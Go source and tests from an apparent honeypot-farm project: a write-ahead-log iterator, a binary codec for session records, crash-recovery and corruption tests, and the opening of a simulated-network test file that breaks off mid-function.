// maxStepsPerNext caps the internal frame/segment advance loop of one
// Next call. Each step consumes a frame or advances a segment, so the
// cap is unreachable outside pathological inputs; hitting it reports
// "caught up" and the caller's retry resumes from the saved position.
const maxStepsPerNext = 1 << 16

// NewIterator positions an iterator at the start of the WAL in dir, on
// the real filesystem. The directory may be empty or not yet created:
// Next reports "caught up" until a writer produces the first segment.
func NewIterator(dir string) (*Iterator, error) {
	return NewIteratorFS(iofault.OS, dir)
}

// NewIteratorFS is NewIterator reading through fsys.
func NewIteratorFS(fsys iofault.FS, dir string) (*Iterator, error) {
	if info, err := fsys.Stat(dir); err == nil && !info.IsDir() {
		return nil, fmt.Errorf("wal: %s is not a directory", dir)
	}
	return &Iterator{fs: fsys, dir: dir}, nil
}

// Next returns the next intact batch in log order. ok is false with a
// nil error when the iterator is caught up: every durable frame has
// been consumed and the bytes past the cursor (if any) do not yet form
// a complete frame on the final segment — call Next again after the
// writer makes progress. A non-nil error is permanent: corruption
// (damaged frames on a sealed segment, format/sequence/epoch
// mismatches) or an I/O failure. Gap frames are consumed silently into
// Gaps().
func (it *Iterator) Next() (Batch, bool, error) {
	for step := 0; step < maxStepsPerNext; step++ {
		if it.f == nil {
			opened, err := it.open()
			if err != nil || !opened {
				return Batch{}, false, err
			}
		}
		payload, n, ok := nextFrame(it.buf, 0)
		if !ok {
			// Re-read the unconsumed tail: a frame may have completed since
			// the last poll. Reading from it.off (not extending buf) also
			// recovers if a restarted writer truncated a torn tail we had
			// buffered — consumed offsets are always ≤ the truncation point.
			if err := it.refill(); err != nil {
				return Batch{}, false, err
			}
			payload, n, ok = nextFrame(it.buf, 0)
		}
		if !ok {
			sealed, err := it.successorExists()
			if err != nil {
				return Batch{}, false, err
			}
			if !sealed {
				return Batch{}, false, nil // pending tail: caught up for now
			}
			if len(it.buf) > 0 {
				return Batch{}, false, fmt.Errorf("wal: segment %s has a damaged frame %d bytes in but is sealed", segmentName(it.seq), it.off)
			}
			if err := it.f.Close(); err != nil {
				return Batch{}, false, fmt.Errorf("wal: closing segment: %w", err)
			}
			it.f, it.seq, it.off, it.sawMeta = nil, it.seq+1, 0, false
			continue
		}
		it.buf = it.buf[n:]
		it.off += n
		if !it.sawMeta {
			epoch, format, intact, err := decodeMeta(payload, segmentName(it.seq), it.seq, it.epoch)
			if err != nil {
				return Batch{}, false, err
			}
			if !intact {
				// The frame passed its CRC, so this is not a tear.
				return Batch{}, false, fmt.Errorf("wal: segment %s does not start with a meta frame", segmentName(it.seq))
			}
			it.epoch = epoch
			it.format = format
			it.sawMeta = true
			continue
		}
		if g, isGap, intact := decodeGap(payload); isGap {
			if !intact {
				return Batch{}, false, fmt.Errorf("wal: segment %s has an undecodable gap frame at offset %d", segmentName(it.seq), it.off-n)
			}
			it.gaps = append(it.gaps, g)
			continue
		}
		b, intact := decodeBatch(payload, it.format)
		if !intact {
			return Batch{}, false, fmt.Errorf("wal: segment %s has an undecodable frame at offset %d", segmentName(it.seq), it.off-n)
		}
		return b, true, nil
	}
	return Batch{}, false, nil // step cap: resume from the saved position
}

// open opens the segment the cursor points at: the lowest sequence
// present when none has been read yet, the successor otherwise. opened
// is false (nil error) when that segment does not exist yet.
func (it *Iterator) open() (opened bool, err error) {
	seq := it.seq
	if seq == 0 {
		segs, err := listSegments(it.fs, it.dir)
		if err != nil {
			if errors.Is(err, iofs.ErrNotExist) {
				return false, nil // directory not created yet
			}
			return false, fmt.Errorf("wal: listing %s: %w", it.dir, err)
		}
		if len(segs) == 0 {
			return false, nil
		}
		seq = segs[0].Seq
	}
	f, err := it.fs.OpenFile(filepath.Join(it.dir, segmentName(seq)), os.O_RDONLY, 0)
	if err != nil {
		if errors.Is(err, iofs.ErrNotExist) {
			return false, nil
		}
		return false, fmt.Errorf("wal: opening segment: %w", err)
	}
	it.f, it.seq, it.off, it.buf, it.sawMeta = f, seq, 0, nil, false
	return true, nil
}

// refill replaces buf with every byte from the consumed offset to EOF.
func (it *Iterator) refill() error {
	if _, err := it.f.Seek(it.off, io.SeekStart); err != nil {
		return fmt.Errorf("wal: seeking segment: %w", err)
	}
	data, err := io.ReadAll(it.f)
	if err != nil {
		return fmt.Errorf("wal: reading segment: %w", err)
	}
	it.buf = data
	return nil
}

// successorExists reports whether segment seq+1 exists — the signal
// that the current segment is sealed and will never grow again.
func (it *Iterator) successorExists() (bool, error) {
	_, err := it.fs.Stat(filepath.Join(it.dir, segmentName(it.seq+1)))
	if err == nil {
		return true, nil
	}
	if errors.Is(err, iofs.ErrNotExist) {
		return false, nil
	}
	return false, fmt.Errorf("wal: probing successor segment: %w", err)
}

// Epoch returns the store epoch recorded in the log's meta frames; ok
// is false until the first meta frame has been consumed.
func (it *Iterator) Epoch() (time.Time, bool) {
	return it.epoch, !it.epoch.IsZero()
}

// Pos returns the cursor: the current segment sequence number and the
// consumed byte offset within it. Both are zero before the first
// segment is found.
func (it *Iterator) Pos() (seq uint64, off int64) {
	return it.seq, it.off
}

// Gaps returns a copy of the degraded-mode outage records the cursor
// has crossed so far, in log order. A tailing follower polls this
// after draining to account for records the writer dropped.
func (it *Iterator) Gaps() []Gap {
	if len(it.gaps) == 0 {
		return nil
	}
	out := make([]Gap, len(it.gaps))
	copy(out, it.gaps)
	return out
}

// Close releases the open segment handle, if any. The iterator must
// not be used afterwards.
func (it *Iterator) Close() error {
	if it.f == nil {
		return nil
	}
	err := it.f.Close()
	it.f = nil
	return err
}
