package wal

// The v2 batch codec: length-prefixed binary records in SSH wire style
// (internal/wire) instead of v1's JSON bodies. The frame envelope
// (length + CRC-32C + kind byte) is identical in both formats; only the
// body encoding differs, and each segment declares its body format in
// its meta frame, so a directory may mix v1 and v2 segments freely —
// readers dispatch per segment.
//
// The codec is defined field by field against honeypot.SessionRecord
// and must match JSON's observable semantics exactly: a record decoded
// from a v2 frame equals the same record round-tripped through
// encoding/json (empty slices come back nil under omitempty, times come
// back in UTC or a fixed numeric zone). TestCodecMatchesJSONSemantics
// pins this with testing/quick.

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"sync"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/wire"
)

// builderPool recycles frame-encode buffers across appends: one buffer
// holds the whole frame (header + kind + body), so an append copies the
// body at most once and steady-state appends allocate nothing.
var builderPool = sync.Pool{
	New: func() any { return wire.NewBuilder(64 << 10) },
}

// getFrameBuilder returns a pooled builder pre-seeded with a zeroed
// frame header. finishFrame fills the header in; putFrameBuilder
// returns the builder once the frame bytes have been written out.
func getFrameBuilder() *wire.Builder {
	b := builderPool.Get().(*wire.Builder)
	b.Reset()
	var hdr [frameHeaderSize]byte
	b.Raw(hdr[:])
	return b
}

func putFrameBuilder(b *wire.Builder) { builderPool.Put(b) }

// finishFrame computes the payload length and CRC over everything after
// the reserved header and writes them into it, returning the complete
// frame. The payload (kind byte + body) is never materialized
// separately from the frame.
func finishFrame(b *wire.Builder) []byte {
	frame := b.Bytes()
	payload := frame[frameHeaderSize:]
	binary.LittleEndian.PutUint32(frame[0:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(frame[4:8], crc32.Checksum(payload, castagnoli))
	return frame
}

// EncodeBatchFrame encodes one batch as a complete, self-contained v2
// frame (header + kind byte + binary body), appending to dst and
// returning the extended slice. The bytes are exactly what AppendTagged
// writes into a v2 segment, so the function doubles as the codec's
// benchmark entry point and as the building block for shipping batches
// outside a segment file.
func EncodeBatchFrame(dst []byte, tag uint64, recs []*honeypot.SessionRecord) []byte {
	start := len(dst)
	b := wire.NewBuilderFrom(dst)
	var hdr [frameHeaderSize]byte
	b.Raw(hdr[:])
	b.Byte(kindBatch)
	encodeBatchV2(b, tag, recs)
	out := b.Bytes()
	payload := out[start+frameHeaderSize:]
	binary.LittleEndian.PutUint32(out[start:start+4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(out[start+4:start+8], crc32.Checksum(payload, castagnoli))
	return out
}

// DecodeBatchFrame decodes one frame produced by EncodeBatchFrame,
// validating the length prefix and CRC, and returns the batch plus the
// number of bytes consumed (so frames can be decoded back to back from
// one buffer).
func DecodeBatchFrame(data []byte) (Batch, int, error) {
	payload, next, ok := nextFrame(data, 0)
	if !ok {
		return Batch{}, 0, errors.New("wal: truncated or corrupt frame")
	}
	batch, ok := decodeBatchV2(payload)
	if !ok {
		return Batch{}, 0, errors.New("wal: frame is not a v2 batch")
	}
	return batch, int(next), nil
}

// FrameKindPartials tags a raw frame carrying an encoded partial-
// aggregate bundle (analysis.Partials wire layout) — the shard pull
// protocol's transfer unit. The value is deliberately far from the
// segment-file kinds (meta/batch/gap) so a partials frame accidentally
// written into a segment is rejected as unknown.
const FrameKindPartials = 0x70

// EncodeRawFrame wraps an arbitrary payload in the WAL's frame envelope
// (length prefix + CRC-32C + kind byte), appending to dst and returning
// the extended slice. It is the generic sibling of EncodeBatchFrame:
// anything shipped between honeyfarm processes rides in this envelope,
// so every transport shares one integrity check.
func EncodeRawFrame(dst []byte, kind byte, body []byte) []byte {
	start := len(dst)
	b := wire.NewBuilderFrom(dst)
	var hdr [frameHeaderSize]byte
	b.Raw(hdr[:])
	b.Byte(kind)
	b.Raw(body)
	out := b.Bytes()
	payload := out[start+frameHeaderSize:]
	binary.LittleEndian.PutUint32(out[start:start+4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(out[start+4:start+8], crc32.Checksum(payload, castagnoli))
	return out
}

// DecodeRawFrame validates one frame produced by EncodeRawFrame against
// the expected kind and returns its body (aliasing data) plus the bytes
// consumed. A truncated buffer, CRC mismatch, or wrong kind byte is an
// error — raw frames cross process boundaries, so a bad frame means the
// transfer is corrupt, not that scanning should stop quietly.
func DecodeRawFrame(data []byte, kind byte) (body []byte, n int, err error) {
	payload, next, ok := nextFrame(data, 0)
	if !ok {
		return nil, 0, errors.New("wal: truncated or corrupt frame")
	}
	if len(payload) == 0 {
		return nil, 0, errors.New("wal: empty frame payload")
	}
	if payload[0] != kind {
		return nil, 0, fmt.Errorf("wal: frame kind %#x, want %#x", payload[0], kind)
	}
	return payload[1:], int(next), nil
}

// encodeBatchV2 appends a v2 batch body to b: tag, record count, then
// each record field for field.
func encodeBatchV2(b *wire.Builder, tag uint64, recs []*honeypot.SessionRecord) {
	b.Uint64(tag)
	b.Uint32(uint32(len(recs)))
	for _, r := range recs {
		encodeRecord(b, r)
	}
}

// decodeBatchV2 decodes a v2 batch-frame payload (kind byte included).
// intact is false for an unknown kind or a body that does not decode
// cleanly to its exact end.
func decodeBatchV2(payload []byte) (Batch, bool) {
	if len(payload) == 0 || payload[0] != kindBatch {
		return Batch{}, false
	}
	r := wire.NewReader(payload[1:])
	// Batch payloads legitimately exceed the SSH string cap (a 4096-
	// record generation shard is ~1.4 MB in v1); the frame CRC already
	// vouches for the bytes, so only the buffer bound applies.
	r.SetMaxStringLen(len(payload))
	tag := r.Uint64()
	n := r.Uint32()
	if r.Err() != nil || uint64(n)*minRecordLen > uint64(r.Remaining()) {
		return Batch{}, false
	}
	var recs []*honeypot.SessionRecord
	if n > 0 {
		recs = make([]*honeypot.SessionRecord, 0, n)
	}
	for i := uint32(0); i < n; i++ {
		rec, ok := decodeRecord(r)
		if !ok {
			return Batch{}, false
		}
		recs = append(recs, rec)
	}
	if r.Err() != nil || r.Remaining() != 0 {
		return Batch{}, false
	}
	return Batch{Tag: tag, Records: recs}, true
}

// minRecordLen is the encoded size of an all-zero record: the fixed
// fields plus one empty length prefix per variable field. Used to bound
// the record-count prefix before allocating.
const minRecordLen = 8 + 8 + 1 + 4 + 8 + timeWireLen + timeWireLen + 4 + 4 + 4 + 4 + 4 + 1 + 4

// timeWireLen is the encoded size of a time.Time: unix seconds,
// nanoseconds, zone offset.
const timeWireLen = 8 + 4 + 4

// encodeRecord appends one session record. Field order is fixed and
// exhaustive: every SessionRecord field is written, in declaration
// order, so the codec and the struct cannot drift silently (the
// testing/quick property test fails on any unencoded field).
func encodeRecord(b *wire.Builder, r *honeypot.SessionRecord) {
	b.Uint64(r.ID)
	b.Uint64(uint64(int64(r.HoneypotID)))
	b.Byte(byte(r.Protocol))
	b.Text(r.ClientIP)
	b.Uint64(uint64(int64(r.ClientPort)))
	encodeTime(b, r.Start)
	encodeTime(b, r.End)
	b.Text(r.ClientVersion)
	b.Uint32(uint32(len(r.Logins)))
	for _, l := range r.Logins {
		b.Text(l.User)
		b.Text(l.Password)
		b.Bool(l.Success)
	}
	b.Uint32(uint32(len(r.Commands)))
	for _, c := range r.Commands {
		b.Text(c.Input)
		b.Bool(c.Known)
	}
	b.Uint32(uint32(len(r.URIs)))
	for _, u := range r.URIs {
		b.Text(u)
	}
	b.Uint32(uint32(len(r.Files)))
	for _, f := range r.Files {
		b.Text(f.Path)
		b.Text(f.Hash)
		b.Text(f.Op)
		b.Uint64(uint64(int64(f.Size)))
	}
	b.Byte(byte(r.Termination))
	b.String(r.Transcript)
}

// decodeRecord reads one session record. Zero-length slices decode to
// nil, matching what a JSON round trip under omitempty produces.
func decodeRecord(r *wire.Reader) (*honeypot.SessionRecord, bool) {
	rec := &honeypot.SessionRecord{}
	rec.ID = r.Uint64()
	rec.HoneypotID = int(int64(r.Uint64()))
	rec.Protocol = honeypot.Protocol(r.Byte())
	rec.ClientIP = r.Text()
	rec.ClientPort = int(int64(r.Uint64()))
	rec.Start = decodeTime(r)
	rec.End = decodeTime(r)
	rec.ClientVersion = r.Text()
	if n := r.Uint32(); r.Err() == nil && n > 0 {
		if uint64(n)*9 > uint64(r.Remaining()) { // 2 empty strings + bool
			return nil, false
		}
		rec.Logins = make([]honeypot.LoginAttempt, n)
		for i := range rec.Logins {
			rec.Logins[i] = honeypot.LoginAttempt{User: r.Text(), Password: r.Text(), Success: r.Bool()}
		}
	}
	if n := r.Uint32(); r.Err() == nil && n > 0 {
		if uint64(n)*5 > uint64(r.Remaining()) {
			return nil, false
		}
		rec.Commands = make([]honeypot.CommandRecord, n)
		for i := range rec.Commands {
			rec.Commands[i] = honeypot.CommandRecord{Input: r.Text(), Known: r.Bool()}
		}
	}
	if n := r.Uint32(); r.Err() == nil && n > 0 {
		if uint64(n)*4 > uint64(r.Remaining()) {
			return nil, false
		}
		rec.URIs = make([]string, n)
		for i := range rec.URIs {
			rec.URIs[i] = r.Text()
		}
	}
	if n := r.Uint32(); r.Err() == nil && n > 0 {
		if uint64(n)*20 > uint64(r.Remaining()) {
			return nil, false
		}
		rec.Files = make([]honeypot.FileRecord, n)
		for i := range rec.Files {
			rec.Files[i] = honeypot.FileRecord{
				Path: r.Text(), Hash: r.Text(), Op: r.Text(),
				Size: int(int64(r.Uint64())),
			}
		}
	}
	rec.Termination = honeypot.Termination(r.Byte())
	if t := r.String(); len(t) > 0 {
		rec.Transcript = append([]byte(nil), t...)
	}
	return rec, r.Err() == nil
}

// encodeTime appends a time.Time as unix seconds, nanoseconds, and the
// zone offset in seconds. The monotonic reading is dropped, exactly as
// JSON marshaling drops it.
func encodeTime(b *wire.Builder, t time.Time) {
	_, offset := t.Zone()
	b.Uint64(uint64(t.Unix()))
	b.Uint32(uint32(t.Nanosecond()))
	b.Uint32(uint32(int32(offset)))
}

// decodeTime reads a time encoded by encodeTime. A zero offset yields
// UTC and any other offset a fixed numeric zone — the same locations an
// RFC 3339 parse (JSON's format) produces.
func decodeTime(r *wire.Reader) time.Time {
	sec := int64(r.Uint64())
	nsec := int64(int32(r.Uint32()))
	offset := int(int32(r.Uint32()))
	if r.Err() != nil {
		return time.Time{}
	}
	loc := time.UTC
	if offset != 0 {
		loc = time.FixedZone("", offset)
	}
	return time.Unix(sec, nsec).In(loc)
}
