package wal

import (
	"fmt"
	"honeyfarm/internal/iofault"
	"os"
	"path/filepath"
	"testing"
	"time"

	"honeyfarm/internal/honeypot"
)

var testEpoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)

// mkRecords builds n small deterministic records starting at id.
func mkRecords(id uint64, n int) []*honeypot.SessionRecord {
	out := make([]*honeypot.SessionRecord, n)
	for i := range out {
		out[i] = &honeypot.SessionRecord{
			ID:         id + uint64(i),
			HoneypotID: int(id) % 7,
			ClientIP:   fmt.Sprintf("10.0.%d.%d", id%250, i%250),
			Start:      testEpoch.Add(time.Duration(id) * time.Minute),
			End:        testEpoch.Add(time.Duration(id)*time.Minute + 30*time.Second),
		}
	}
	return out
}

// sameBatches asserts got equals want by tag and record IDs.
func sameBatches(t *testing.T, got, want []Batch) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("recovered %d batches, want %d", len(got), len(want))
	}
	for i := range got {
		if got[i].Tag != want[i].Tag {
			t.Fatalf("batch %d tag = %d, want %d", i, got[i].Tag, want[i].Tag)
		}
		if len(got[i].Records) != len(want[i].Records) {
			t.Fatalf("batch %d has %d records, want %d", i, len(got[i].Records), len(want[i].Records))
		}
		for j := range got[i].Records {
			if got[i].Records[j].ID != want[i].Records[j].ID {
				t.Fatalf("batch %d record %d ID = %d, want %d",
					i, j, got[i].Records[j].ID, want[i].Records[j].ID)
			}
		}
	}
}

func TestAppendRecoverRoundTrip(t *testing.T) {
	dir := t.TempDir()
	l, rec, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Batches) != 0 {
		t.Fatalf("fresh log recovered %d batches", len(rec.Batches))
	}
	var want []Batch
	for i := 0; i < 10; i++ {
		recs := mkRecords(uint64(i*10+1), 3)
		if err := l.AppendTagged(uint64(i), recs); err != nil {
			t.Fatal(err)
		}
		want = append(want, Batch{Tag: uint64(i), Records: recs})
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	l2, rec2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()
	if !rec2.Epoch.Equal(testEpoch) {
		t.Errorf("recovered epoch %v, want %v", rec2.Epoch, testEpoch)
	}
	sameBatches(t, rec2.Batches, want)
	if got := rec2.Records(); got != 30 {
		t.Errorf("recovered %d records, want 30", got)
	}
	s := rec2.Replay()
	if s.Len() != 30 {
		t.Errorf("replayed store has %d records, want 30", s.Len())
	}
	if !s.Epoch().Equal(testEpoch) {
		t.Errorf("replayed store epoch %v, want %v", s.Epoch(), testEpoch)
	}

	// The reopened log keeps appending where recovery left off.
	extra := mkRecords(500, 2)
	if err := l2.AppendTagged(99, extra); err != nil {
		t.Fatal(err)
	}
	if err := l2.Close(); err != nil {
		t.Fatal(err)
	}
	_, rec3, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	sameBatches(t, rec3.Batches, append(want, Batch{Tag: 99, Records: extra}))
}

func TestSegmentRotation(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 1024, SyncEvery: 4})
	if err != nil {
		t.Fatal(err)
	}
	var want []Batch
	for i := 0; i < 40; i++ {
		recs := mkRecords(uint64(i*5+1), 2)
		if err := l.AppendTagged(uint64(i), recs); err != nil {
			t.Fatal(err)
		}
		want = append(want, Batch{Tag: uint64(i), Records: recs})
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) < 3 {
		t.Fatalf("1 KiB threshold produced only %d segments", len(segs))
	}
	_, rec, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	sameBatches(t, rec.Batches, want)
	for i, seg := range rec.Segments {
		if seg.Torn {
			t.Errorf("segment %d (%s) reports torn tail on a clean log", i, seg.Name)
		}
		if seg.Seq != uint64(i+1) {
			t.Errorf("segment %d has sequence %d, want %d", i, seg.Seq, i+1)
		}
	}
}

// TestCrashAtEveryOffset is the recovery property test: a WAL whose
// final segment is truncated at EVERY byte boundary must always open
// without error and recover exactly the intact-frame prefix — never a
// partial frame, never a corrupt record, never an error. It runs once
// per codec: the torn-tail dichotomy must hold for v1 and v2 segments
// alike.
func TestCrashAtEveryOffset(t *testing.T) {
	for _, format := range []string{FormatName, FormatNameV2} {
		t.Run(format, func(t *testing.T) { testCrashAtEveryOffset(t, format) })
	}
}

func testCrashAtEveryOffset(t *testing.T, format string) {
	build := t.TempDir()
	l, _, err := Open(build, Options{Epoch: testEpoch, SegmentBytes: 1500, Format: format})
	if err != nil {
		t.Fatal(err)
	}
	var all []Batch
	for i := 0; i < 18; i++ {
		recs := mkRecords(uint64(i*3+1), 1+i%2)
		if err := l.AppendTagged(uint64(i), recs); err != nil {
			t.Fatal(err)
		}
		all = append(all, Batch{Tag: uint64(i), Records: recs})
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	segs, err := listSegments(iofault.OS, build)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) < 2 {
		t.Fatalf("need a multi-segment log for the property test, got %d segments", len(segs))
	}

	// Count the batches living in segments before the last one: those
	// survive every truncation of the last segment.
	_, full, err := Open(build, Options{})
	if err != nil {
		t.Fatal(err)
	}
	priorBatches := 0
	for _, seg := range full.Segments[:len(full.Segments)-1] {
		priorBatches += seg.Frames
	}

	lastName := segs[len(segs)-1].Name
	lastBytes, err := os.ReadFile(filepath.Join(build, lastName))
	if err != nil {
		t.Fatal(err)
	}

	// Replay arena: earlier segments are copied once (Open never touches
	// them); the last segment is rewritten truncated for every offset.
	arena := t.TempDir()
	for _, seg := range segs[:len(segs)-1] {
		data, err := os.ReadFile(filepath.Join(build, seg.Name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(arena, seg.Name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	prevRecovered := -1
	for off := 0; off <= len(lastBytes); off++ {
		if err := os.WriteFile(filepath.Join(arena, lastName), lastBytes[:off], 0o644); err != nil {
			t.Fatal(err)
		}
		l, rec, err := Open(arena, Options{Epoch: testEpoch})
		if err != nil {
			t.Fatalf("offset %d: Open failed: %v", off, err)
		}
		n := len(rec.Batches)
		if n < priorBatches {
			t.Fatalf("offset %d: recovered %d batches, lost data from completed segments (have %d)",
				off, n, priorBatches)
		}
		if n > len(all) {
			t.Fatalf("offset %d: recovered %d batches from a log that only has %d", off, n, len(all))
		}
		sameBatches(t, rec.Batches, all[:n])
		if off == 0 && n != priorBatches {
			t.Fatalf("empty last segment recovered %d batches, want exactly the prior %d", n, priorBatches)
		}
		if off == len(lastBytes) && n != len(all) {
			t.Fatalf("untruncated log recovered %d batches, want all %d", n, len(all))
		}
		// Monotonicity: truncating less never recovers fewer frames.
		if prevRecovered >= 0 && n < prevRecovered {
			t.Fatalf("offset %d recovered %d batches but offset %d recovered %d",
				off, n, off-1, prevRecovered)
		}
		prevRecovered = n
		// The reopened log must accept appends and survive another cycle.
		if off%97 == 0 {
			extra := mkRecords(9000, 1)
			if err := l.AppendTagged(777, extra); err != nil {
				t.Fatalf("offset %d: append after recovery: %v", off, err)
			}
			if err := l.Close(); err != nil {
				t.Fatalf("offset %d: close: %v", off, err)
			}
			_, rec2, err := Open(arena, Options{})
			if err != nil {
				t.Fatalf("offset %d: reopen after append: %v", off, err)
			}
			sameBatches(t, rec2.Batches, append(append([]Batch{}, all[:n]...), Batch{Tag: 777, Records: extra}))
		} else if err := l.Close(); err != nil {
			t.Fatalf("offset %d: close: %v", off, err)
		}
	}
}

func TestEpochMismatchRefused(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.Append(mkRecords(1, 1)); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Open(dir, Options{Epoch: testEpoch.AddDate(0, 1, 0)}); err == nil {
		t.Fatal("Open with a different epoch succeeded")
	}
}

func TestFreshDirNeedsEpoch(t *testing.T) {
	if _, _, err := Open(t.TempDir(), Options{}); err == nil {
		t.Fatal("Open of a fresh directory without an epoch succeeded")
	}
}

// TestCorruptMiddleSegment flips a byte in a non-final segment: Open
// must refuse (that is corruption, not a crash artifact), Verify must
// report it, and Repair must salvage the intact prefix.
func TestCorruptMiddleSegment(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 1024})
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for i := 0; i < 40; i++ {
		if err := l.AppendTagged(uint64(i), mkRecords(uint64(i*5+1), 2)); err != nil {
			t.Fatal(err)
		}
		total += 2
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) < 3 {
		t.Fatalf("need ≥3 segments, got %d", len(segs))
	}
	mid := filepath.Join(dir, segs[1].Name)
	data, err := os.ReadFile(mid)
	if err != nil {
		t.Fatal(err)
	}
	data[len(data)/2] ^= 0xff
	if err := os.WriteFile(mid, data, 0o644); err != nil {
		t.Fatal(err)
	}

	if _, _, err := Open(dir, Options{}); err == nil {
		t.Fatal("Open accepted a corrupt non-final segment")
	}
	rec, err := Verify(dir, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Healthy() {
		t.Fatal("Verify reports a corrupt log as healthy")
	}
	if !rec.Segments[1].Torn || rec.Segments[1].TornBytes == 0 {
		t.Fatalf("Verify did not flag segment 1: %+v", rec.Segments[1])
	}

	rep, err := Repair(dir, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Healthy() {
		t.Fatal("Repair left the log unhealthy")
	}
	if rep.Records() >= total {
		t.Fatalf("repair of a corrupt middle recovered %d of %d records; corruption should cost data", rep.Records(), total)
	}
	if _, rec2, err := Open(dir, Options{}); err != nil {
		t.Fatalf("Open after Repair: %v", err)
	} else if rec2.Records() != rep.Records() {
		t.Fatalf("Open recovered %d records, Repair reported %d", rec2.Records(), rep.Records())
	}
}

func TestGroupCommitSyncCounter(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SyncEvery: 10})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	// 3 records stay below the threshold; the next 8 cross it and reset.
	if err := l.Append(mkRecords(1, 3)); err != nil {
		t.Fatal(err)
	}
	if got := l.pendingRecords(); got != 3 {
		t.Fatalf("pending = %d after 3 records, want 3", got)
	}
	if err := l.Append(mkRecords(10, 8)); err != nil {
		t.Fatal(err)
	}
	if got := l.pendingRecords(); got != 0 {
		t.Fatalf("pending = %d after crossing SyncEvery, want 0", got)
	}
	if err := l.Append(mkRecords(20, 1)); err != nil {
		t.Fatal(err)
	}
	if err := l.Sync(); err != nil {
		t.Fatal(err)
	}
	if got := l.pendingRecords(); got != 0 {
		t.Fatalf("pending = %d after explicit Sync, want 0", got)
	}
}
