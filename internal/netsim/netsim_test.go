package netsim

import (
	"errors"
	"io"
	"net"
	"sync"
	"testing"
	"testing/quick"
	"time"
)

func TestDialListenRoundTrip(t *testing.T) {
	f := NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()

	done := make(chan error, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			done <- err
			return
		}
		defer c.Close()
		buf := make([]byte, 5)
		if _, err := io.ReadFull(c, buf); err != nil {
			done <- err
			return
		}
		if string(buf) != "hello" {
			done <- errors.New("payload mismatch")
			return
		}
		_, err = c.Write([]byte("world"))
		done <- err
	}()

	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 5)
	if _, err := io.ReadFull(c, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "world" {
		t.Errorf("reply = %q", buf)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func TestConnAddrs(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	go func() { _, _ = l.Accept() }()
	c, err := f.Dial("192.0.2.55", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if c.RemoteAddr().String() != "10.0.0.1:22" {
		t.Errorf("remote = %s", c.RemoteAddr())
	}
	local := c.LocalAddr().(Addr)
	if local.IP != "192.0.2.55" {
		t.Errorf("local = %s", local)
	}
	if c.LocalAddr().Network() != "netsim" {
		t.Error("network name wrong")
	}
}

func TestDialRefused(t *testing.T) {
	f := NewFabric(0)
	if _, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 23}); !errors.Is(err, ErrConnectionRefused) {
		t.Errorf("err = %v, want refused", err)
	}
}

func TestListenConflict(t *testing.T) {
	f := NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Listen("10.0.0.1", 22); !errors.Is(err, ErrAddressInUse) {
		t.Errorf("duplicate listen err = %v", err)
	}
	l.Close()
	// After close the address is free again.
	if _, err := f.Listen("10.0.0.1", 22); err != nil {
		t.Errorf("re-listen after close: %v", err)
	}
}

func TestCloseUnblocksReader(t *testing.T) {
	f := NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 22)
	defer l.Close()
	var srv net.Conn
	accepted := make(chan struct{})
	go func() {
		srv, _ = l.Accept()
		close(accepted)
	}()
	c, err := f.Dial("10.9.9.9", Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	<-accepted

	readErr := make(chan error, 1)
	go func() {
		buf := make([]byte, 1)
		_, err := srv.Read(buf)
		readErr <- err
	}()
	time.Sleep(10 * time.Millisecond)
	c.Close()
	select {
	case err := <-readErr:
		if err != io.EOF {
